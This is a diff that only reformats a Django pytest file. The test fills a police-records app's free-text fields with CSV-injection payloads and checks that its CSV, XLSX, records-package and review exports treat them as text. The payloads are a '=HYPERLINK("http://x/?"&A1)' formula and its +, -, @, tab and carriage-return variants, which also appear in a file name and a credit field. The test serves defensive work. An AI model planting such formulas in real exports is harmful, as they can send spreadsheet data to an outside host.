@@ -49,8 +49,14 @@ pytestmark = pytest.mark.django_db
 
 HYPERLINK = '=HYPERLINK("http://x/?"&A1)'
 # Each way a spreadsheet starts a formula (OWASP "CSV injection"), given to the fields in turn.
-VARIANTS = [HYPERLINK, "+" + HYPERLINK[1:], "-" + HYPERLINK[1:], "@" + HYPERLINK[1:], "\t" + HYPERLINK,
-            "\r" + HYPERLINK]
+VARIANTS = [
+    HYPERLINK,
+    "+" + HYPERLINK[1:],
+    "-" + HYPERLINK[1:],
+    "@" + HYPERLINK[1:],
+    "\t" + HYPERLINK,
+    "\r" + HYPERLINK,
+]
 
 # Apps whose tables hold what the exports carry.
 APPS = ["people", "posts", "platforms", "screening", "approvals", "retention", "audits", "reviews"]
@@ -58,10 +64,14 @@ APPS = ["people", "posts", "platforms", "screening", "approvals", "retention", "
 # password hash, and the append-only audit trail's own columns (its free text, object_repr and actor_name, is
 # written by the actions taken after the poisoning below).
 NOT_FREE_TEXT = {
-    "people.Department": {"slug"}, "people.Member": {"password", "username"},
-    "posts.Post": {"category"}, "posts.Publication": {"channel"},
-    "approvals.ApprovalRule": {"category"}, "approvals.PostRequest": {"category"},
-    "retention.RecordSeries": {"key"}, "security.ApiToken": {"prefix", "key_hash"},
+    "people.Department": {"slug"},
+    "people.Member": {"password", "username"},
+    "posts.Post": {"category"},
+    "posts.Publication": {"channel"},
+    "approvals.ApprovalRule": {"category"},
+    "approvals.PostRequest": {"category"},
+    "retention.RecordSeries": {"key"},
+    "security.ApiToken": {"prefix", "key_hash"},
 }
 SKIPPED_MODELS = {"audits.AuditEvent", "audits.AuditChainHead", "audits.Checkpoint"}
 
@@ -70,10 +80,15 @@ def free_text_fields(model) -> list:
     label = model._meta.label
     if label in SKIPPED_MODELS:
         return []
-    return [field for field in model._meta.concrete_fields
-            if isinstance(field, models.CharField | models.TextField) and not field.choices
-            and field.name not in NOT_FREE_TEXT.get(label, ()) and "sha256" not in field.name
-            and "hash" not in field.name]
+    return [
+        field
+        for field in model._meta.concrete_fields
+        if isinstance(field, models.CharField | models.TextField)
+        and not field.choices
+        and field.name not in NOT_FREE_TEXT.get(label, ())
+        and "sha256" not in field.name
+        and "hash" not in field.name
+    ]
 
 
 def poison(values) -> dict:
@@ -86,8 +101,9 @@ def poison(values) -> dict:
         for model in apps.get_app_config(app).get_models():
             fields = free_text_fields(model)
             for pk in model.objects.values_list("pk", flat=True):
-                model.objects.filter(pk=pk).update(**{field.name: hostile(next(values), pk, field.max_length)
-                                                      for field in fields})
+                model.objects.filter(pk=pk).update(
+                    **{field.name: hostile(next(values), pk, field.max_length) for field in fields}
+                )
                 poisoned[model._meta.label] = [field.name for field in fields]
     return poisoned
 
@@ -213,28 +229,68 @@ def records(tmp_path, settings):
     world.review = activity.appoint_and_import(world)
     custodian = make_member(department, "custodian", Role.CUSTODIAN)
     fb = world.accounts["fb"]
-    photo = upload_media(by=world.pio, rights_attested=True, credit="Oakley PD",
-                         upload=SimpleUploadedFile("parade.png", activity_png(), content_type="image/png"))
+    photo = upload_media(
+        by=world.pio,
+        rights_attested=True,
+        credit="Oakley PD",
+        upload=SimpleUploadedFile("parade.png", activity_png(), content_type="image/png"),
+    )
     post = world.posts["jan"]
     PostRevision.objects.get(pk=post.current_revision_id).media.add(photo)
     when = timezone.now() - timedelta(days=3)
     CapturedComment.objects.create(
-        department=department, account=fb, post=post, platform_comment_id="c-1", author_name="Lee Ortega",
-        text="When does the lobby open?", posted_at=when, captured_at=when, captured_by=world.supervisor,
-        moderation_reason="Kept", moderation_citation="IV.C",
-        sha256=comment_sha256(platform=fb.platform, handle=fb.handle, platform_comment_id="c-1",
-                              author_name="Lee Ortega", text="When does the lobby open?", posted_at=when))
+        department=department,
+        account=fb,
+        post=post,
+        platform_comment_id="c-1",
+        author_name="Lee Ortega",
+        text="When does the lobby open?",
+        posted_at=when,
+        captured_at=when,
+        captured_by=world.supervisor,
+        moderation_reason="Kept",
+        moderation_citation="IV.C",
+        sha256=comment_sha256(
+            platform=fb.platform,
+            handle=fb.handle,
+            platform_comment_id="c-1",
+            author_name="Lee Ortega",
+            text="When does the lobby open?",
+            posted_at=when,
+        ),
+    )
     # A post captured from the account (platforms.CapturedPost), with its one version.
     captured = CapturedPost.objects.create(
-        department=department, account=fb, uri="at://did:plc:oakley/app.bsky.feed.post/1", url="https://bsky.app/x",
-        author="did:plc:oakley", posted_at=when, captured_at=when, text="Parade on Saturday", cid="cid-1",
-        sha256="0" * 64, post=post)
-    CapturedPostVersion.objects.create(captured_post=captured, cid="cid-1", text="Parade on Saturday",
-                                       record={"text": "Parade on Saturday"}, sha256="0" * 64, captured_at=when)
-    services.place_hold(by=custodian, matter="Smith v. City of Oakley", reason="Litigation", requested_by="City",
-                        accounts=[fb])
-    request = services.open_request(by=custodian, requester="Oakley Press", received_on=timezone.localdate(),
-                                    description="Every post on the page", accounts=[fb])
+        department=department,
+        account=fb,
+        uri="at://did:plc:oakley/app.bsky.feed.post/1",
+        url="https://bsky.app/x",
+        author="did:plc:oakley",
+        posted_at=when,
+        captured_at=when,
+        text="Parade on Saturday",
+        cid="cid-1",
+        sha256="0" * 64,
+        post=post,
+    )
+    CapturedPostVersion.objects.create(
+        captured_post=captured,
+        cid="cid-1",
+        text="Parade on Saturday",
+        record={"text": "Parade on Saturday"},
+        sha256="0" * 64,
+        captured_at=when,
+    )
+    services.place_hold(
+        by=custodian, matter="Smith v. City of Oakley", reason="Litigation", requested_by="City", accounts=[fb]
+    )
+    request = services.open_request(
+        by=custodian,
+        requester="Oakley Press",
+        received_on=timezone.localdate(),
+        description="Every post on the page",
+        accounts=[fb],
+    )
     archive = make_account(department, "OakleyArchive", approved_by=chief)
     make_posts(department, world.pio, [archive], 2, status=PostStatus.PUBLISHED, age_days=OLD_DAYS)
     make_posts(department, world.pio, [archive], 2, age_days=OLD_DAYS)
@@ -245,8 +301,10 @@ def records(tmp_path, settings):
 
 def activity_png() -> bytes:
     # The smallest PNG there is: a 1x1 transparent pixel.
-    return bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
-                         "1f15c4890000000d49444154789c6300010000000500010d0a2db40000000049454e44ae426082")
+    return bytes.fromhex(
+        "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
+        "1f15c4890000000d49444154789c6300010000000500010d0a2db40000000049454e44ae426082"
+    )
 
 
 def act_after_poisoning(world):
@@ -258,8 +316,12 @@ def act_after_poisoning(world):
     post_services.report_content(by=world.veteran, post=post, description=HYPERLINK)
     # An uploaded file's name keeps only what follows its last slash.
     name = '=HYPERLINK("x?"&A1).png'
-    photo = upload_media(by=world.pio, upload=SimpleUploadedFile(name, activity_png(), content_type="image/png"),
-                         rights_attested=True, credit=HYPERLINK)
+    photo = upload_media(
+        by=world.pio,
+        upload=SimpleUploadedFile(name, activity_png(), content_type="image/png"),
+        rights_attested=True,
+        credit=HYPERLINK,
+    )
     PostRevision.objects.get(pk=post.current_revision_id).media.add(photo)
 
 
@@ -267,8 +329,14 @@ def act_after_poisoning(world):
 def test_every_export_opens_every_free_text_field_as_text(records, values):
     world = records
     poisoned = poison(values)
-    assert {"posts.PostRevision", "posts.CapturedComment", "retention.LegalHold", "audits.AnnualReview",
-            "approvals.FlagOverride", "people.Member"} <= set(poisoned)
+    assert {
+        "posts.PostRevision",
+        "posts.CapturedComment",
+        "retention.LegalHold",
+        "audits.AnnualReview",
+        "approvals.FlagOverride",
+        "people.Member",
+    } <= set(poisoned)
     act_after_poisoning(world)
     custodian, chief = world.custodian, world.chief
     browser = {}
@@ -282,16 +350,22 @@ def test_every_export_opens_every_free_text_field_as_text(records, values):
     chief_api.force_authenticate(user=chief)
 
     # The public-records package, in the browser and through the API.
-    for response in (browser[custodian.pk].get(f"/retention/requests/{world.request.pk}/package/"),
-                     api.get(f"/api/v1/retention/requests/{world.request.pk}/package/")):
+    for response in (
+        browser[custodian.pk].get(f"/retention/requests/{world.request.pk}/package/"),
+        api.get(f"/api/v1/retention/requests/{world.request.pk}/package/"),
+    ):
         assert_covers(package_columns(body(response)), PACKAGE)
 
     # The retention report, at once, as CSV and XLSX, in the browser and through the API.
-    for response in (browser[custodian.pk].get("/retention/report/export/", {"format": "csv"}),
-                     api.get("/api/v1/retention/report/", {"format": "csv"})):
+    for response in (
+        browser[custodian.pk].get("/retention/report/export/", {"format": "csv"}),
+        api.get("/api/v1/retention/report/", {"format": "csv"}),
+    ):
         assert csv_columns("report.csv", body(response)) >= REPORT
-    for response in (browser[custodian.pk].get("/retention/report/export/", {"format": "xlsx"}),
-                     api.get("/api/v1/retention/report/", {"format": "xlsx"})):
+    for response in (
+        browser[custodian.pk].get("/retention/report/export/", {"format": "xlsx"}),
+        api.get("/api/v1/retention/report/", {"format": "xlsx"}),
+    ):
         assert xlsx_columns("report.xlsx", body(response)) >= REPORT
 
     # ... and by the export job.
@@ -300,12 +374,16 @@ def test_every_export_opens_every_free_text_field_as_text(records, values):
             export = exports.create_export(by=custodian, format=format, filters=ReportFilters())
         export = ReportExport.objects.get(pk=export.pk)
         assert check(f"export.{format}", body(api.get(f"/api/v1/retention/exports/{export.pk}/download/"))) >= REPORT
-        assert check(f"export.{format}",
-                               body(browser[custodian.pk].get(f"/retention/exports/{export.pk}/download/"))) >= REPORT
+        assert (
+            check(f"export.{format}", body(browser[custodian.pk].get(f"/retention/exports/{export.pk}/download/")))
+            >= REPORT
+        )
 
     # The annual review, in the browser and through the API.
-    for response in (browser[chief.pk].get(f"/reviews/{world.review.pk}/report.csv"),
-                     chief_api.get(f"/api/v1/reviews/{world.review.pk}/csv/")):
+    for response in (
+        browser[chief.pk].get(f"/reviews/{world.review.pk}/report.csv"),
+        chief_api.get(f"/api/v1/reviews/{world.review.pk}/csv/"),
+    ):
         assert_covers(review_columns(body(response)), REVIEW)
 
     # The disposition batch: its record list, then the transfer archive written when it is carried out.
